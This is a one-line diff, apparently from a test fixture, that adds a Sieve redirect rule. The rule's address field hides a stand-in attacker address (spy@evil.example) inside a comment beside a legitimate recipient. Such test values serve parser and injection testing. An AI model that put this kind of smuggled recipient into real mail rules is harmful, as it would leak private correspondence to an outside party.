@@ -1,0 +1,1 @@
+redirect "alice@corp.example (spy@evil.example)";
